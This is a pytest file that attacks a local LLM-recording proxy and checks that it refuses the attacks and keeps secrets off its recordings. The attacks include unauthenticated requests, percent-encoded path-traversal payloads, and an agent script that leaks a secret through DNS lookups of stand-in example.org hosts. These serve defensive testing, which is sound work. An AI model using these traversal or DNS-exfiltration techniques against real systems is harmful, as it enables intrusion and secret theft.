"""The proxy as a shared service: what another local process, a hostile agent or a careless
command line can do to a booth's proxy and its tape. Each test performs the attack with the real
SDKs (raw HTTP only where an SDK would not send the bytes) and asserts the safe outcome."""

from __future__ import annotations

import http.client
import json
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from jukebox.guard.breaker import CircuitBreaker
from jukebox.llm.server import ProxyServer
from jukebox.redact import REDACTED
from jukebox.tape.tape import Tape
from shadowfs.store import Store
from tests.booth.conftest import (  # noqa: F401 (fixtures)
    NOBODY,
    nobody_dir,
    nobody_python,
    open_dev_fuse,
    run_py,
)
from tests.llm.conftest import OPENAI_KEY, Recording, clients
from tests.llm.test_booth_llm import JUKEBOX, booth_env, run_cli
from tests.llm.test_breaker_hook import ask
from tests.llm.upstream import FakeUpstream

# Knows the port of a victim's proxy, not its secret; prints what each attempt got.
ATTACKER = r"""
import json, sys
import anthropic, openai
port = int(sys.argv[1])
out = {}
bases = {"no_secret": f"http://127.0.0.1:{port}", "guessed": f"http://127.0.0.1:{port}/" + "A" * 43}
for name, base in bases.items():
    o = openai.OpenAI(api_key="sk-attacker-0000000000", base_url=base + "/openai/v1", max_retries=0)
    a = anthropic.Anthropic(api_key="sk-ant-attacker-000000", base_url=base + "/anthropic",
                            max_retries=0)
    got = []
    for _ in range(3):
        try:
            o.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "pwn"}])
            got.append(200)
        except openai.APIStatusError as e:
            got.append(e.status_code)
        try:
            a.messages.create(model="claude-haiku-4-5", max_tokens=8,
                              messages=[{"role": "user", "content": "pwn"}])
            got.append(200)
        except anthropic.APIStatusError as e:
            got.append(e.status_code)
    out[name] = got
print(json.dumps(out))
"""


def turns(rec: Recording) -> list[dict[str, Any]]:
    return [f.resolve_payload(rec.store) for f in rec.tape().frames if f.kind == "llm_turn"]


def everything_recorded(tape_path: Path, store: Store) -> bytes:
    store.flush()
    data = tape_path.read_bytes()
    for oid in store.iter_oids():
        data += store.get(oid)
    return data


def raw(proxy: ProxyServer, method: str, target: str) -> tuple[int, dict[str, Any]]:
    conn = http.client.HTTPConnection("127.0.0.1", proxy.port, timeout=10)
    conn.request(method, target, body=b"{}", headers={"content-type": "application/json"})
    resp = conn.getresponse()
    status, body = resp.status, json.loads(resp.read())
    conn.close()
    return status, body


# --------------------------------------------------------------------------- the secret


def attack(port: int, python: str = sys.executable, user: int | None = None) -> dict[str, Any]:
    proc = run_py(ATTACKER, str(port), python=python, user=user, timeout=60)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout.strip().splitlines()[-1])


def test_a_process_without_the_secret_is_refused_and_leaves_no_trace(
    upstream: FakeUpstream, recording: Recording
) -> None:
    trips: list[Any] = []
    breaker = CircuitBreaker(max_turns=1)
    with recording.proxy(upstream, breaker=breaker, on_trip=trips.append) as proxy:
        assert proxy.secret not in proxy.origin and proxy.secret in proxy.url
        got = attack(proxy.port)
        o, _ = clients(proxy.base_urls())
        assert ask(o, "mine").choices[0].message.content == "echo: mine"
    assert got == {"no_secret": [403] * 6, "guessed": [403] * 6}
    assert [t["request"]["messages"][0]["content"] for t in turns(recording)] == ["mine"]
    assert trips == [] and not any(f.kind == "note" for f in recording.tape().frames)
    assert len(upstream.seen) == 1  # the attacker reached nothing upstream


def test_a_stranger_is_refused_before_its_body_is_read(recording: Recording) -> None:
    head = (
        b"POST /openai/v1/chat/completions HTTP/1.1\r\nhost: x\r\n"
        b"content-type: application/json\r\ncontent-length: 67108864\r\n\r\n"
    )
    # The head announces 64 MiB and no byte of it follows: the answer comes anyway, and the
    # connection ends with it.
    with (
        recording.proxy(None) as proxy,
        socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as sock,
    ):
        sock.sendall(head)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    status, _, rest = answer.partition(b"\r\n")
    assert status == b"HTTP/1.1 403 "
    assert b"connection: close" in rest.lower() and b"jukebox_proxy_secret" in rest


def test_another_user_without_the_secret_is_refused(
    upstream: FakeUpstream, recording: Recording, nobody_python: str  # noqa: F811
) -> None:
    with recording.proxy(upstream) as proxy:
        got = attack(proxy.port, python=nobody_python, user=NOBODY)
    assert got == {"no_secret": [403] * 6, "guessed": [403] * 6}
    assert turns(recording) == [] and upstream.seen == []


def test_the_secret_never_reaches_the_tape(upstream: FakeUpstream, recording: Recording) -> None:
    with recording.proxy(upstream) as proxy:
        o, _ = clients(proxy.base_urls())
        # An agent that pastes its environment into a prompt: the answer echoes it too.
        ask(o, f"my base url is {proxy.base_urls()['OPENAI_BASE_URL']}")
        o.models.list()
    (turn,) = turns(recording)
    assert turn["path"] == "/chat/completions"
    assert proxy.secret.encode() not in everything_recorded(recording.path, recording.store)



def test_secrets_added_to_a_standby_are_scrubbed_before_and_after_its_start(
    upstream: FakeUpstream, recording: Recording
) -> None:
    """A booth hands its standby the HTTP MCP gateway's path secret once the gateway is up,
    which may be before or after the agent's first call has started the proxy."""
    from jukebox.llm.standby import Standby

    early, late = "gateway-secret-early-0001", "gateway-secret-late-0002"

    def make(sock: socket.socket, secret: str, learned: list[str]) -> ProxyServer:
        return ProxyServer(upstreams={"openai": upstream.openai_url, "anthropic": upstream.url},
                           record=recording.writer.append, sock=sock, secret=secret,
                           secrets=learned)  # fmt: skip

    standby = Standby(make, {}).start()
    try:
        standby.add_secrets([early])
        o, _ = clients(standby.base_urls())
        ask(o, f"mine: {early}")  # starts the proxy
        standby.add_secrets([late])
        ask(o, f"mine: {late} {early}")
    finally:
        standby.stop()
    assert [t["request"]["messages"][0]["content"] for t in turns(recording)] == [
        f"mine: {REDACTED}", f"mine: {REDACTED} {REDACTED}"
    ]
    data = everything_recorded(recording.path, recording.store)
    assert early.encode() not in data and late.encode() not in data

# --------------------------------------------------------------------------- paths


ESCAPES = [
    "/openai/v1/../../admin",
    "/openai/v1/models/../../../admin",
    "/openai/v1/%2e%2e/%2e%2e/admin",
    "/openai/v1/%2E%2E/%2e./admin",
    "/openai/v1/..%2f..%2fadmin",
    "/openai/v1/models%2f..%2f..%2fadmin",
    "/openai/v1/%252e%252e/%252e%252e/admin",
    "/openai/v1/..%5c..%5cadmin",
    "/anthropic/../admin",
    "/anthropic/v1/%2e%2e/%2e%2e/admin?x=1",
]


def test_paths_that_leave_the_prefix_are_refused(
    upstream: FakeUpstream, recording: Recording
) -> None:
    with recording.proxy(upstream) as proxy:
        for target in ESCAPES:
            for method in ("GET", "POST"):
                status, body = raw(proxy, method, f"/{proxy.secret}{target}")
                assert status == 400, target
                assert "path refused" in json.dumps(body), target
        # Inside the prefix, dot and empty segments are resolved, and the call is recorded as
        # the model call the upstream sees.
        for target in ("/openai/v1/models/../chat/completions", "/openai/v1/./chat//completions"):
            status, _ = raw(proxy, "POST", f"/{proxy.secret}{target}")
            assert status == 200, target
    assert [path for _, path, _, _ in upstream.seen] == ["/v1/chat/completions"] * 2
    assert [t["endpoint"] for t in turns(recording)] == ["chat.completions"] * 2


# --------------------------------------------------------------------------- the recording cap


def test_recorded_bytes_past_the_limit_are_refused_and_trip(
    upstream: FakeUpstream, recording: Recording
) -> None:
    import openai

    trips: list[Any] = []
    limit = 1 << 20
    chunk = "x" * (300 << 10)
    with recording.proxy(upstream, on_trip=trips.append, record_limit=limit) as proxy:
        o, _ = clients(proxy.base_urls())
        answered = 0
        with pytest.raises(openai.BadRequestError) as caught:
            for _ in range(10):
                ask(o, chunk)
                answered += 1
        with pytest.raises(openai.BadRequestError, match="circuit breaker tripped: recorded"):
            ask(o, "small")
    assert caught.value.code == "jukebox_record_limit"
    assert "past the booth's limit of 1.0 MiB" in caught.value.message
    assert 0 < answered < 10 and len(upstream.seen) == answered
    assert [t.rule for t in trips] == ["recorded"]
    recorded = turns(recording)
    assert len(recorded) == answered
    requests = sum(len(t["request"]["messages"][0]["content"]) for t in recorded)
    assert requests <= limit


def test_one_request_bigger_than_the_limit_records_nothing(
    upstream: FakeUpstream, recording: Recording
) -> None:
    import anthropic

    with recording.proxy(upstream, record_limit=64 << 10) as proxy:
        _, a = clients(proxy.base_urls())
        with pytest.raises(anthropic.BadRequestError, match="past the booth's limit"):
            big = [{"role": "user", "content": "y" * (100 << 10)}]
            a.messages.create(model="claude-haiku-4-5", max_tokens=8, messages=big)
    assert turns(recording) == [] and upstream.seen == []


# --------------------------------------------------------------------------- redaction


def test_secret_headers_are_redacted_both_ways(
    upstream: FakeUpstream, recording: Recording
) -> None:
    sent = {
        "x-api-key": "hdr-x-api-key-1111111",
        "api-key": "hdr-api-key-2222222",
        "cookie": "sid=hdr-cookie-3333333",
        "proxy-authorization": "Basic aGRyLXByb3h5LTQ0NDQ0NDQ=",
        "x-goog-api-key": "hdr-goog-5555555",
        "x-fake-response-headers": json.dumps({
            "set-cookie": "sid=resp-cookie-6666666",
            "x-session-token": "resp-token-7777777",
            "x-ratelimit-remaining-tokens": "99",
        }),
    }  # fmt: skip
    with recording.proxy(upstream) as proxy:
        o, _ = clients(proxy.base_urls())
        ask(o, "headers", extra_headers=sent)
    (turn,) = turns(recording)
    for name in ("authorization", "x-api-key", "api-key", "cookie", "proxy-authorization",
                 "x-goog-api-key"):  # fmt: skip
        assert turn["request_headers"][name] == REDACTED, name
    assert "set-cookie" not in turn["response_headers"]
    assert turn["response_headers"]["x-session-token"] == REDACTED
    assert turn["response_headers"]["x-ratelimit-remaining-tokens"] == "99"
    assert "6666666" not in json.dumps(turn["response_headers"])
    # (the response's values travel in a request header of the fake's own, recorded as sent)
    data = everything_recorded(recording.path, recording.store)
    for value in ("1111111", "2222222", "3333333", "aGRyLXByb3h5", "5555555", OPENAI_KEY):
        assert value.encode() not in data, value


def test_a_502_names_the_upstream_without_its_password(recording: Recording) -> None:
    import anthropic
    import openai

    dead = "http://alice:hunter2-upstream-pw@127.0.0.1:9"
    proxy = ProxyServer(
        upstreams={"openai": dead + "/v1", "anthropic": dead}, record=recording.writer.append
    )
    with proxy:
        o, a = clients(proxy.base_urls())
        with pytest.raises(openai.InternalServerError) as chat:
            ask(o)
        with pytest.raises(openai.InternalServerError) as passthrough:
            o.models.list()
        with pytest.raises(anthropic.InternalServerError) as messages:
            a.messages.create(model="claude-haiku-4-5", max_tokens=8,
                              messages=[{"role": "user", "content": "x"}])  # fmt: skip
    for caught in (chat, passthrough, messages):
        assert "http://127.0.0.1:9 failed" in str(caught.value)
        assert "hunter2" not in str(caught.value) and "alice" not in str(caught.value)
    assert [t["status"] for t in turns(recording)] == [502, 502]
    data = everything_recorded(recording.path, recording.store)
    assert b"hunter2" not in data and b"alice" not in data


QUERY_KEYS = {
    "key": "q-key-1111111",
    "api-key": "q-api-key-2222222",
    "api_key": "q-api_key-3333333",
    "access_token": "q-access-4444444",
    "token": "q-token-5555555",
    "sig": "q-sig-6666666",
}


def test_keys_in_query_strings_are_redacted_in_the_frame_path(
    upstream: FakeUpstream, recording: Recording
) -> None:
    with recording.proxy(upstream) as proxy:
        o, _ = clients(proxy.base_urls())
        ask(o, "query", extra_query={**QUERY_KEYS, "limit": "5"})
        o.models.list(extra_query=QUERY_KEYS)
    (turn,) = turns(recording)
    path, _, query = turn["path"].partition("?")
    assert path == "/chat/completions"
    assert sorted(query.split("&")) == sorted(
        [f"{k}={REDACTED}" for k in QUERY_KEYS] + ["limit=5"]
    )
    (note,) = [f.payload for f in recording.tape().frames if f.kind == "note"]
    assert note["path"].startswith("/models?") and REDACTED in note["path"]
    data = everything_recorded(recording.path, recording.store)
    for value in QUERY_KEYS.values():
        assert value.encode() not in data, value
    # The upstream got them: redaction is for the record only.
    assert all(value in upstream.seen[0][1] for value in QUERY_KEYS.values())


# --------------------------------------------------------------------------- in real booths

# Sends its base URL (secret included) to the test, waits for the attack to be over, then
# makes its one model call with that URL pasted into the prompt.
VICTIM = r"""
import json, os, socket, sys
import openai
base = os.environ["OPENAI_BASE_URL"]
with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as rendezvous:
    rendezvous.sendall(base.encode() + b"\n")
    assert rendezvous.recv(1) == b"g"
o = openai.OpenAI(max_retries=0)
r = o.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": base}])
# Only a verdict goes into the tree: what the agent writes there is content, recorded as is.
json.dump({"echoed": r.choices[0].message.content == "echo: " + base}, open("victim.json", "w"))
"""
ARGV_SECRETS = {
    "--api-key": "sk-argv-option-1111111111",
    "--token=": "argv-token-2222222",
    "OPENAI_API_KEY=": "sk-assigned-3333333333",
    "": "ghp_" + "4" * 36,
    "--x": "AKIA" + "5" * 16,
    "--y": "xoxb-66666666-slack",
    "--z": "https://bob:argv-url-pw-7777777@example.com/repo",
}
ENV_VALUES = {"MY_SERVICE_TOKEN": "env-token-8888888", "PLAIN_SETTING": "plain-value-9999999"}
VERIFY = "true --password=verify-pw-0000000"

booths_as_root = pytest.mark.skipif(os.geteuid() != 0, reason="booths here run as root")


def secret_args() -> list[str]:
    out = []
    for option, value in ARGV_SECRETS.items():
        if option.endswith("="):
            out.append(option + value)
        elif option:
            out += [option, value]
        else:
            out.append(value)
    return out


@booths_as_root
def test_another_booth_cannot_write_on_a_victims_tape(
    upstream: FakeUpstream, tmp_path: Path
) -> None:
    tree, other, tapes = tmp_path / "tree", tmp_path / "other", tmp_path / "tapes"
    tree.mkdir()
    other.mkdir()
    (tree / "victim.py").write_text(VICTIM)
    (other / "attacker.py").write_text(ATTACKER)
    env = {**booth_env(upstream), **ENV_VALUES}
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(60)
    victim = subprocess.Popen(
        [JUKEBOX, "booth", "run", "--tree", str(tree),
         "--tape-dir", str(tapes), "--tape-id", "victim", "--max-turns", "1",
         "--verify", VERIFY, "--", sys.executable, "victim.py",
         str(listener.getsockname()[1]), *secret_args()],
        env=env, cwd="/", stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        conn, _ = listener.accept()
        with conn:
            base = conn.makefile().readline().strip()
            port, secret = base.split(":")[2].split("/")[:2]
            attacker = run_cli("booth", "run", "--tree", str(other), "--tape-dir", str(tapes),
                               "--tape-id", "attacker", "--", sys.executable, "attacker.py",
                               port, env=env)  # fmt: skip
            conn.sendall(b"g")
        _, err = victim.communicate(timeout=60)
    finally:
        victim.kill()
        victim.wait()
        listener.close()
    assert attacker.returncode == 0, attacker.stderr
    got = json.loads(attacker.stdout.strip().splitlines()[-1])
    assert got == {"no_secret": [403] * 6, "guessed": [403] * 6}
    assert victim.returncode == 0, err
    assert json.loads((tree / "victim.json").read_text()) == {"echoed": True}
    with Store.open(tapes / ".jukebox" / "store") as store:
        tape = Tape.load(tapes / "victim.jbx", store)
        kinds = [f.kind for f in tape.frames]
        start = tape.frames[0].payload
        data = everything_recorded(tapes / "victim.jbx", store)
    assert kinds.count("llm_turn") == 1 and "breaker" not in kinds
    # Nothing secret on the tape: the proxy's secret, the command line's keys, the
    # environment's values, the verifier's password.
    for value in (secret, *ARGV_SECRETS.values(), *ENV_VALUES.values(), "verify-pw-0000000"):
        assert value.encode() not in data, value
    assert start["argv"][3:] == [
        "--api-key", REDACTED, f"--token={REDACTED}", f"OPENAI_API_KEY={REDACTED}", REDACTED,
        "--x", REDACTED, "--y", REDACTED, "--z", f"https://{REDACTED}@example.com/repo",
    ]  # fmt: skip
    assert start["argv_redacted"] is True
    assert start["policy"]["verify"] == f"true --password={REDACTED}"
    assert "MY_SERVICE_TOKEN" in start["env"]["secret_names"]


CAP_AGENT = r"""
import openai
o = openai.OpenAI(max_retries=0)
for i in range(20):
    o.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "z" * 300_000}])
"""


@booths_as_root
def test_max_scratch_caps_what_the_proxy_records(upstream: FakeUpstream, tmp_path: Path) -> None:
    tree, tapes = tmp_path / "tree", tmp_path / "tapes"
    tree.mkdir()
    (tree / "agent.py").write_text(CAP_AGENT)
    proc = run_cli("booth", "run", "--tree", str(tree), "--tape-dir", str(tapes), "--net", "none",
                   "--max-scratch", "1M", "--tape-id", "cap", "--", sys.executable, "agent.py",
                   env=booth_env(upstream))  # fmt: skip
    assert proc.returncode != 0
    with Store.open(tapes / ".jukebox" / "store") as store:
        tape = Tape.load(tapes / "cap.jbx", store)
        frames = [(f.kind, f.resolve_payload(store)) for f in tape.frames]
    assert frames[0][1]["policy"]["llm_record_limit"] == 1 << 20
    (trip,) = [p for kind, p in frames if kind == "breaker"]
    assert trip["rule"] == "recorded" and "--max-scratch" in trip["detail"]
    recorded = [p for kind, p in frames if kind == "llm_turn"]
    assert 0 < len(recorded) < 20
    assert sum(len(p["request"]["messages"][0]["content"]) for p in recorded) <= 1 << 20


# An agent that spreads its base URLs (the proxy's secret in each) everywhere it can: its model
# calls with both SDKs (a prompt, a header, a stream, a path no endpoint has), a checkpoint's
# label and the rollback to it, the names it looks up under --net none (the secret as a label,
# an operator's value in upper case and split over two labels), and a file outside the tree
# (`--rw`) that the verifier prints, then fails, so that the booth shows its output on stderr.
SPREADER = r"""
import os, socket, subprocess, sys
import anthropic, openai
side, cli = sys.argv[1:3]
base, abase = os.environ["OPENAI_BASE_URL"], os.environ["ANTHROPIC_API_URL"]
secret, token = base.split("/")[3], os.environ["MY_SERVICE_TOKEN"]
# "x" first: the secret is random base64url, and glibc sends no query at all for a label that
# starts with "-" (1 run in 64 saw two lookups of three).
for host in ("x" + secret + ".example.org", token.upper() + ".example.org",
             token[:6] + "." + token[6:] + ".example.org"):
    try:
        socket.getaddrinfo(host, 443)
    except socket.gaierror:
        pass
o = openai.OpenAI(max_retries=0, default_headers={"x-agent-note": base})
a = anthropic.Anthropic(max_retries=0)
say = [{"role": "user", "content": "mine: " + base + " " + abase}]
o.chat.completions.create(model="gpt-4o-mini", messages=say)
for _ in o.chat.completions.create(model="gpt-4o-mini", messages=say, stream=True):
    pass
a.messages.create(model="claude-haiku-4-5", max_tokens=50, messages=say)
with a.messages.stream(model="claude-haiku-4-5", max_tokens=50, messages=say) as s:
    for _ in s:
        pass
o.models.list()
try:
    o.post("/no-endpoint/" + base, cast_to=object, body={})
except openai.NotFoundError:
    pass
label = "at " + base
for step in (["checkpoint", "--label", label], ["rollback", "--to", label]):
    # Captured: the CLI tells its caller the label, which is the agent's own business.
    subprocess.run([sys.executable, "-c", cli, "booth", *step], check=True, capture_output=True)
with open(os.path.join(side, "base"), "w") as f:
    f.write(base + "\n")
"""
CLI = "import sys; from jukebox.cli import main; sys.argv[0] = 'jukebox'; sys.exit(main())"
# The proxies have stopped when the verifier runs: it gets none of their URLs, and the
# operator's own OPENAI_BASE_URL back.
SPREADING_VERIFIER = (
    "printenv OPENAI_BASE_URL ANTHROPIC_API_URL OPENAI_API_BASE; cat {side}/base; exit 1"
)


@pytest.mark.parametrize("user", ["root", "nobody"])
def test_the_secret_reaches_no_byte_of_the_tape_dir_nor_the_booths_output(
    user: str, upstream: FakeUpstream, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    if os.geteuid() != 0:
        pytest.skip("booths here run as root, and as nobody through setpriv")
    env = {**booth_env(upstream), **ENV_VALUES}
    python, as_user = sys.executable, None
    work = tmp_path
    if user == "nobody":
        python = request.getfixturevalue("nobody_python")
        work = request.getfixturevalue("nobody_dir")
        request.getfixturevalue("open_dev_fuse")
        as_user = NOBODY
        env = {"PATH": "/usr/bin:/bin", "HOME": str(work),
               **{k: env[k] for k in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "OPENAI_BASE_URL",
                                      "ANTHROPIC_BASE_URL", *ENV_VALUES)}}  # fmt: skip
    tree, tapes, side = work / "tree", work / "tapes", work / "side"
    tree.mkdir()
    side.mkdir()
    (tree / "agent.py").write_text(SPREADER)
    if as_user is not None:
        for path in (tree, tree / "agent.py", side):
            os.chown(path, as_user, as_user)
    argv = [python, "-c", CLI, "booth", "run", "--net", "none", "--tree", str(tree),
            "--tape-dir", str(tapes), "--tape-id", "spread", "--rw", str(side),
            "--verify", SPREADING_VERIFIER.format(side=side), "--",
            python, "agent.py", str(side), CLI]  # fmt: skip
    if as_user is not None:
        argv = ["setpriv", f"--reuid={as_user}", f"--regid={as_user}", "--clear-groups", *argv]
    proc = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120, cwd="/")
    assert proc.returncode == 1, proc.stderr  # the verifier failed
    # The upstream got the agent's header as sent (only the record is scrubbed): the secret.
    (base,) = {v for _, _, h, _ in upstream.seen for k, v in h.items() if k == "x-agent-note"}
    secret = base.split("/")[3]
    assert len(secret) == 43 and base.endswith(f"/{secret}/openai/v1")
    with Store.open(tapes / ".jukebox" / "store") as store:
        tape = Tape.load(tapes / "spread.jbx", store)
        frames = [(f.kind, f.resolve_payload(store)) for f in tape.frames]
        objects = b"".join(store.get(oid) for oid in store.iter_oids())  # decompressed
    # Every spreading happened, and was recorded, scrubbed.
    kinds = [kind for kind, _ in frames]
    assert kinds.count("llm_turn") == 4 and kinds.count("checkpoint") == 1
    notes = [p["path"] for kind, p in frames if kind == "note" and p["event"] == "llm_passthrough"]
    assert notes[0] == "/models" and notes[1].startswith("/no-endpoint/") and len(notes) == 2
    assert notes[1].endswith(f"/{REDACTED}/openai/v1")
    (checkpoint,) = [p for kind, p in frames if kind == "checkpoint"]
    (rollback,) = [p for kind, p in frames if kind == "rollback" and not p.get("final")]
    assert checkpoint["label"] == rollback["label"] == f"at {base.replace(secret, REDACTED)}"
    looked_up = [p["host"] for kind, p in frames if kind == "note"
                 and p["event"] == "lookup_refused"]  # fmt: skip
    assert looked_up == [f"x{REDACTED}.example.org", *[f"{REDACTED}.example.org"] * 2]
    assert sum(f"looked up {name}" in line for line in proc.stderr.splitlines()
               for name in set(looked_up)) == 3  # fmt: skip
    (verify,) = [p for kind, p in frames if kind == "verify"]
    assert verify["output"].splitlines() == [
        upstream.openai_url, base.replace(secret, REDACTED)
    ]
    assert f"/{REDACTED}/openai/v1" in proc.stderr  # the failed verifier's output, shown
    # Not one byte: every file of the tape dir as it lies on disk, every stored object
    # decompressed, and all the booth printed; nor in lower case, as a resolver may send it.
    on_disk = b"".join(p.read_bytes() for p in tapes.rglob("*") if p.is_file())
    printed = {"stdout": proc.stdout.encode(), "stderr": proc.stderr.encode()}
    token = ENV_VALUES["MY_SERVICE_TOKEN"]
    for where, data in {"tape dir": on_disk, "objects": objects, **printed}.items():
        for value in (secret, secret.lower(), token, token[6:]):
            assert value.encode() not in data, (where, value)
